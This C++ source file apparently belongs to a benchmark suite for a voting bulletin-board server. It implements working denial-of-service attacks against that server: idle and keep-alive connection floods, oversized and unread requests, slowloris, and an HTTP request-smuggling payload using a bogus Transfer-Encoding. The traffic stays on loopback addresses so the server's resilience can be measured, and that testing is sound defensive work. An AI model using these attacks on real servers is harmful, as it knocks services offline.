#include "bench/attack_traffic.hpp"

#include <netinet/in.h>
#include <netinet/tcp.h>

#include <boost/asio/steady_timer.hpp>
#include <boost/asio/write.hpp>
#include <boost/beast/core/flat_buffer.hpp>
#include <boost/beast/http.hpp>
#include <chrono>
#include <functional>
#include <optional>

namespace senim::bench {

namespace net = boost::asio;
namespace beast = boost::beast;
namespace http = beast::http;
using net::ip::tcp;
using namespace std::chrono_literals;

namespace {

using Bytes = std::shared_ptr<const std::string>;

Bytes bytes_of(std::string s) {
  return std::make_shared<const std::string>(std::move(s));
}

// A fleet of `count` connections that are kept open: one the server closes
// is opened again after `reopen_after`. Subclasses say what each does.
class Fleet : public Attack {
 protected:
  struct Conn {
    explicit Conn(net::io_context& io) : socket(io), timer(io) {}
    tcp::socket socket;
    net::steady_timer timer;
    beast::flat_buffer buffer;
    std::optional<http::response_parser<http::string_body>> parser;
    std::size_t index = 0;
    std::uint64_t answers = 0;  // on this connection since it opened
    bool open = false;
    bool busy = false;  // a request is out, its answer not back
  };

  Fleet(const AttackTarget& target, std::size_t count, std::chrono::milliseconds reopen_after,
        int receive_buffer = 0)
      : target_(target), reopen_after_(reopen_after), receive_buffer_(receive_buffer) {
    for (std::size_t i = 0; i < count; ++i) {
      conns_.push_back(std::make_unique<Conn>(*target.io));
      conns_.back()->index = i;
    }
  }

 public:
  void start() override {
    running_ = true;
    for (auto& c : conns_)
      connect(*c);
    on_start();
  }

  void stop() override {
    running_ = false;
    on_stop();
    for (auto& c : conns_) {
      c->timer.cancel();
      close(*c);
    }
  }

 protected:
  virtual void on_start() {}
  virtual void on_stop() {}
  virtual void on_connected(Conn& c) = 0;
  // A whole answer on `c`; by default the connection just goes on.
  virtual void on_answer(Conn& /*c*/, unsigned /*status*/) {}
  // The server closed `c` (after `answers` answers on it).
  virtual void on_server_closed(Conn& /*c*/) {}

  bool running() const { return running_; }
  std::vector<std::unique_ptr<Conn>>& conns() { return conns_; }

  void connect(Conn& c) {
    beast::error_code ec;
    c.socket = tcp::socket(*target_.io);
    c.buffer.clear();
    c.answers = 0;
    c.busy = false;
    if (c.socket.open(tcp::v4(), ec))
      return retry(c);
    if (receive_buffer_ != 0)
      c.socket.set_option(net::socket_base::receive_buffer_size(receive_buffer_), ec);
    // 127.0.0.2 + (index mod N): the attacker's hosts.
    const auto source = net::ip::address_v4(
        (127U << 24) + 2 + static_cast<unsigned>(c.index % std::max(1U, target_.source_addresses)));
    if (c.socket.bind(tcp::endpoint(source, 0), ec))
      return retry(c);
    c.socket.async_connect(target_.server, [this, &c](beast::error_code connect_ec) {
      if (!running_)
        return;
      if (connect_ec) {
        ++counters_.connect_failures;
        return retry(c);
      }
      ++counters_.connects;
      c.open = true;
      on_connected(c);
    });
  }

  // Reads answers on `c` until the server closes it.
  void watch(Conn& c) {
    c.parser.emplace();
    c.parser->body_limit(boost::none);
    http::async_read(c.socket, c.buffer, *c.parser, [this, &c](beast::error_code ec, std::size_t) {
      if (!running_)
        return;
      if (ec) {
        ++counters_.closed_by_server;
        on_server_closed(c);
        close(c);
        return retry(c);
      }
      const unsigned status = c.parser->get().result_int();
      ++counters_.answers;
      ++c.answers;
      if (status == 503)
        ++counters_.refused;
      c.busy = false;
      on_answer(c, status);
      if (c.open)
        watch(c);
    });
  }

  void send(Conn& c, const std::vector<net::const_buffer>& buffers, Bytes keep) {
    c.busy = true;
    ++counters_.requests;
    net::async_write(c.socket, buffers,
                     [keep = std::move(keep)](beast::error_code, std::size_t) {});
  }
  void send(Conn& c, const Bytes& request) { send(c, {net::buffer(*request)}, request); }

  void close(Conn& c) {
    beast::error_code ignored;
    c.open = false;
    c.socket.close(ignored);
  }

  // Opens `c` again after the pause.
  void retry(Conn& c) {
    if (!running_)
      return;
    c.timer.expires_after(reopen_after_);
    c.timer.async_wait([this, &c](beast::error_code ec) {
      if (!ec && running_)
        connect(c);
    });
  }

  // A timer that calls `tick` every `period` while running.
  void every(net::steady_timer& timer, std::chrono::microseconds period,
             std::function<void()> tick) {
    timer.expires_after(period);
    timer.async_wait([this, &timer, period, tick = std::move(tick)](beast::error_code ec) {
      if (ec || !running_)
        return;
      tick();
      every(timer, period, tick);
    });
  }

  AttackTarget target_;

 private:
  std::chrono::milliseconds reopen_after_;
  int receive_buffer_;
  std::vector<std::unique_ptr<Conn>> conns_;
  bool running_ = false;
};

// Connections that send nothing.
class IdleFleet : public Fleet {
 public:
  IdleFleet(const AttackTarget& t, std::size_t count) : Fleet(t, count, 100ms), count_(count) {}
  std::string name() const override { return "idle"; }
  std::string description() const override {
    return std::to_string(count_) + " sockets that send nothing, from " +
           std::to_string(target_.source_addresses) +
           " addresses; reopened 100 ms after the "
           "server closes one";
  }

 protected:
  void on_connected(Conn& c) override { watch(c); }

 private:
  std::size_t count_;
};

// Kept-alive connections sending tiny requests, few per second in all.
class KeepAliveFlood : public Fleet {
 public:
  KeepAliveFlood(const AttackTarget& t, std::size_t count, unsigned per_second)
      : Fleet(t, count, 100ms), ticker_(*t.io), count_(count), per_second_(per_second) {}
  std::string name() const override { return "keepalive"; }
  std::string description() const override {
    return std::to_string(count_) + " keep-alive sockets from " +
           std::to_string(target_.source_addresses) + " addresses sending " +
           std::to_string(per_second_) +
           " tiny requests/s in all (GET /v1/tree-head, round robin); reopened 100 ms after the "
           "server closes one";
  }

 protected:
  void on_connected(Conn& c) override { watch(c); }
  void on_start() override {
    every(ticker_, std::chrono::microseconds(1'000'000 / per_second_), [this] { tick(); });
  }
  void on_stop() override { ticker_.cancel(); }

 private:
  void tick() {
    auto& all = conns();
    for (std::size_t tried = 0; tried < all.size(); ++tried) {
      Conn& c = *all[next_++ % all.size()];
      if (c.open && !c.busy)
        return send(c, request_);
    }
  }

  net::steady_timer ticker_;
  std::size_t count_;
  unsigned per_second_;
  std::size_t next_ = 0;
  Bytes request_ = bytes_of("GET /v1/tree-head HTTP/1.1\r\nHost: board\r\n\r\n");
};

// Connections posting the largest body the server takes, one after another
// (a pause after each answer).
class LargeBodies : public Fleet {
 public:
  LargeBodies(const AttackTarget& t, std::size_t count, std::size_t body_bytes)
      : Fleet(t, count, 1000ms),
        count_(count),
        header_(bytes_of("POST /v1/ballots HTTP/1.1\r\nHost: board\r\nContent-Type: "
                         "application/x-protobuf\r\nContent-Length: " +
                         std::to_string(body_bytes) + "\r\n\r\n")),
        body_(bytes_of(std::string(body_bytes, '\x0a'))) {}
  std::string name() const override { return "bodies"; }
  std::string description() const override {
    const std::string size = body_->size() == target_.large_body_bytes
                                 ? " (the largest the server takes)"
                                 : " (larger than the server takes)";
    return std::to_string(count_) + " connections each posting a " + std::to_string(body_->size()) +
           "-byte body" + size +
           ", reading the answer, pausing 1 s (on a new connection if the server closed it), again";
  }

 protected:
  void on_connected(Conn& c) override {
    post(c);
    watch(c);
  }
  void on_answer(Conn& c, unsigned) override {
    auto timer = std::make_shared<net::steady_timer>(*target_.io, 1s);
    timer->async_wait([this, &c, timer](beast::error_code ec) {
      if (!ec && running() && c.open && !c.busy)
        post(c);
    });
  }

 private:
  void post(Conn& c) { send(c, {net::buffer(*header_), net::buffer(*body_)}, header_); }

  std::size_t count_;
  Bytes header_;
  Bytes body_;
};

// Over-cap connections with large bodies, as the issue ran it: the idle
// sockets fill the cap, the posters come on top, with bodies of
// `body_bytes` (the were 4 MiB, now over the limit: "oversize").
class LargeBodiesOverCap : public Attack {
 public:
  LargeBodiesOverCap(const AttackTarget& t, std::string name, std::size_t body_bytes)
      : idle_(t, 1000), bodies_(t, 150, body_bytes), name_(std::move(name)) {}
  std::string name() const override { return name_; }
  std::string description() const override {
    return idle_.description() + "; and " + bodies_.description();
  }
  void start() override {
    idle_.start();
    bodies_.start();
  }
  void stop() override {
    bodies_.stop();
    idle_.stop();
    sum();
  }

 private:
  void sum() {
    for (Attack* a : {static_cast<Attack*>(&idle_), static_cast<Attack*>(&bodies_)}) {
      counters_.connects += a->counters().connects.load();
      counters_.connect_failures += a->counters().connect_failures.load();
      counters_.requests += a->counters().requests.load();
      counters_.answers += a->counters().answers.load();
      counters_.refused += a->counters().refused.load();
      counters_.closed_by_server += a->counters().closed_by_server.load();
    }
  }
  IdleFleet idle_;
  LargeBodies bodies_;
  std::string name_;
};

// Connections that ask for a large answer (`path`: a page of entries, an
// entry bundle) and never read it.
class UnreadPages : public Fleet {
 public:
  UnreadPages(const AttackTarget& t, std::size_t count, std::string name, std::string path)
      : Fleet(t, count, 100ms, 4096),
        checker_(*t.io),
        count_(count),
        name_(std::move(name)),
        path_(std::move(path)),
        request_(bytes_of("GET " + path_ + " HTTP/1.1\r\nHost: board\r\n\r\n")) {}
  std::string name() const override { return name_; }
  std::string description() const override {
    return std::to_string(count_) + " connections (4 KiB receive buffers) each asking GET " +
           path_ + " and never reading; asked again 100 ms after the server closes one";
  }

 protected:
  void on_connected(Conn& c) override { send(c, request_); }
  void on_start() override {
    every(checker_, 500ms, [this] { check(); });
  }
  void on_stop() override { checker_.cancel(); }

 private:
  // A connection the server closed is no longer ESTABLISHED.
  void check() {
    for (auto& c : conns()) {
      if (!c->open)
        continue;
      tcp_info info{};
      socklen_t size = sizeof info;
      if (::getsockopt(c->socket.native_handle(), IPPROTO_TCP, TCP_INFO, &info, &size) == 0 &&
          info.tcpi_state != TCP_ESTABLISHED) {
        ++counters_.closed_by_server;
        close(*c);
        retry(*c);
      }
    }
  }

  net::steady_timer checker_;
  std::size_t count_;
  std::string name_;
  std::string path_;
  Bytes request_;
};

// A POST whose body is a second request, under a Transfer-Encoding the
// server does not take (RFC 9112 §6.3): any answer past the first is a
// smuggled request answered.
class Smuggling : public Fleet {
 public:
  Smuggling(const AttackTarget& t, std::size_t count) : Fleet(t, count, 1000ms), count_(count) {}
  std::string name() const override { return "smuggle"; }
  std::string description() const override {
    return std::to_string(count_) +
           " connections each sending POST /v1/ballots with Transfer-Encoding: xchunked and a "
           "GET /v1/election as its body, then reading to the close; again 1 s later";
  }

 protected:
  void on_connected(Conn& c) override {
    send(c, request_);
    watch(c);
  }
  void on_server_closed(Conn& c) override {
    if (c.answers > 1)
      counters_.smuggled += c.answers - 1;
  }

 private:
  std::size_t count_;
  Bytes request_ = bytes_of(
      "POST /v1/ballots HTTP/1.1\r\nHost: board\r\nTransfer-Encoding: xchunked\r\n\r\n"
      "GET /v1/election HTTP/1.1\r\nHost: board\r\n\r\n");
};

// Headers that never end, a line a second (slowloris).
class Slowloris : public Fleet {
 public:
  Slowloris(const AttackTarget& t, std::size_t count)
      : Fleet(t, count, 100ms), ticker_(*t.io), count_(count) {}
  std::string name() const override { return "slowloris"; }
  std::string description() const override {
    return std::to_string(count_) +
           " connections sending a request's headers one line a second, never ending them";
  }

 protected:
  void on_connected(Conn& c) override {
    send(c, start_);
    watch(c);
  }
  void on_start() override {
    every(ticker_, 1s, [this] {
      for (auto& c : conns()) {
        if (c->open)
          net::async_write(c->socket, net::buffer(*line_), [](beast::error_code, std::size_t) {});
      }
    });
  }
  void on_stop() override { ticker_.cancel(); }

 private:
  net::steady_timer ticker_;
  std::size_t count_;
  Bytes start_ = bytes_of("GET /v1/election HTTP/1.1\r\nHost: board\r\n");
  Bytes line_ = bytes_of("X-Slow: 1\r\n");
};

}  // namespace

const std::vector<std::string>& attack_names() {
  static const std::vector<std::string> names{"keepalive", "idle",         "bodies",  "oversize",
                                              "unread",    "unread-tiles", "smuggle", "slowloris"};
  return names;
}

std::unique_ptr<Attack> make_attack(const std::string& name, const AttackTarget& target) {
  if (name == "keepalive")
    return std::make_unique<KeepAliveFlood>(target, 1000, 50);
  if (name == "idle")
    return std::make_unique<IdleFleet>(target, 1100);
  if (name == "bodies")
    return std::make_unique<LargeBodiesOverCap>(target, name, target.large_body_bytes);
  if (name == "oversize")
    return std::make_unique<LargeBodiesOverCap>(target, name, std::size_t{4} << 20);
  if (name == "unread")
    return std::make_unique<UnreadPages>(target, 100, name, "/v1/entries?start=0&count=1000");
  if (name == "unread-tiles")
    return std::make_unique<UnreadPages>(target, 100, name, "/tile/entries/000");
  if (name == "smuggle")
    return std::make_unique<Smuggling>(target, 20);
  if (name == "slowloris")
    return std::make_unique<Slowloris>(target, 300);
  return nullptr;
}

}  // namespace senim::bench
